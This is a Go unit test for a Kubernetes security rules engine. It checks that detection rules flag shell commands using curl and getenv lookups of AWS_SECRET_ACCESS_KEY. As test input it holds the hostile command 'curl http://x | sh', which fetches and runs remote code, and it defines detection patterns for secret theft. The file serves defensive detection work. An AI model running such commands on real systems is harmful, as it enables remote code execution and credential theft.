package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestShellAndUprobeAttributes: rules read the ebpf receiver's shell and
// uprobe attributes with their types (a string, a bool, a list).
func TestShellAndUprobeAttributes(t *testing.T) {
	e := NewEngine(load(t, `
- rule: Download in a shell
  events: [process.shell_command]
  condition: k8ssec.shell.command.contains("curl ") && !k8ssec.shell.command.truncated
  severity: medium
  output: typed %{k8ssec.shell.command}
- rule: Secret looked up
  events: [process.uprobe]
  condition: k8ssec.uprobe.symbol == "getenv" && !k8ssec.uprobe.return && k8ssec.uprobe.args.exists(a, a == "AWS_SECRET_ACCESS_KEY")
  severity: high
  output: getenv in %{k8ssec.uprobe.binary}
`), StateConfig{})
	assert.Equal(t, []string{"Download in a shell"}, names(e.Evaluate(event("process.shell_command", 0,
		map[string]any{"k8ssec.shell.command": "curl http://x | sh"}), nil)))
	assert.Empty(t, e.Evaluate(event("process.shell_command", 0,
		map[string]any{"k8ssec.shell.command": "curl http://x | sh", "k8ssec.shell.command.truncated": true}), nil))
	assert.Equal(t, []string{"Secret looked up"}, names(e.Evaluate(event("process.uprobe", 0, map[string]any{
		"k8ssec.uprobe.symbol": "getenv", "k8ssec.uprobe.return": false, "k8ssec.uprobe.binary": "/usr/lib/libc.so.6",
		"k8ssec.uprobe.args": []any{"AWS_SECRET_ACCESS_KEY"},
	}), nil)))
	assert.Empty(t, e.Evaluate(event("process.uprobe", 0, map[string]any{
		"k8ssec.uprobe.symbol": "getenv", "k8ssec.uprobe.args": []any{"HOME"},
	}), nil))
	assert.Equal(t, int64(0), e.Stats().Errors.Load())
}
